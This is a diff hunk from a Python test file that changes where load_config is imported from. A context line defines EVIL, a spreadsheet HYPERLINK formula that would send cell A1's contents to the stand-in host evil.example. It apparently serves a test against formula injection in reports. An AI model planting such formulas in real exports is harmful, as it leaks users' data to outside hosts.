@@ -10,13 +10,13 @@ import re
 import pytest
 
 from opskit.accounts.roster import load_declared
-from opskit.core.config import load_config
 from opskit.core.errors import IntegrityError, UsageError
 from opskit.hosts.inventory import load_inventory
 from opskit.perms.analysis import Analysis, Finding, analyse
 from opskit.perms.changes import changes
 from opskit.perms.report import ReportStore, build_report, verify_content
 from opskit.perms.snapshot import SnapshotStore, make_snapshot, take_snapshot
+from opskit.settings import load_config
 from tests.fixtures.perms.trees import KEYS, Org, key_fingerprint
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
